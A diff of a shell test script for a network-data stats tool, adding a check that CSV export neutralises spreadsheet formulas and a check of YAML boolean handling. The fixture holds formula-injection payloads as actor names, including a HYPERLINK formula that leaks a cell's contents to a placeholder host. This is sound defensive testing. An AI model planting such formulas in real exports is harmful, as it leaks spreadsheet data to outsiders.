@@ -14,3 +14,13 @@ run "$A" stats -q tests/fixtures/export.yaml --period 2015- --table periods -T c
 run "$A" stats -q tests/fixtures/total.yaml --table periods -T json
 # More than 1000 periods are refused.
 run "$A" stats -q "$NET" --by year --period 0001/2023
+# A name a spreadsheet would run as a formula is kept a text in CSV (a leading apostrophe); numbers stay numbers.
+printf '%s\n' 'title: x' 'default_source: s' 'sources: {s: {title: S}}' 'actors:' \
+	"  A: {name: '=HYPERLINK(\"http://x.example/?\"&A1,\"click\")', kind: state}" \
+	"  B: {name: '+1+1', kind: state}" "  C: {name: '-2', kind: state}" "  D: {name: '@SUM(1)', kind: non-state}" \
+	'ties:' '  - {from: A, to: B, type: arms, when: 1990}' '  - {from: C, to: D, type: arms, when: 1991}' >"$TMP/formula.yaml"
+run "$A" stats "$TMP/formula.yaml" --table actors -T csv
+# mutual: True and FALSE are YAML 1.2's booleans, as the JSON Schema takes them.
+printf '%s\n' 'title: x' 'default_source: s' 'sources: {s: {title: S}}' 'actors:' '  A: {name: A, kind: state}' \
+	'  B: {name: B, kind: state}' 'ties:' '  - {from: A, to: B, type: arms, when: 1990, mutual: True}' \
+	'  - {from: B, to: A, type: training, when: 1991, mutual: FALSE}' | run "$A" stats - --table actors -T csv
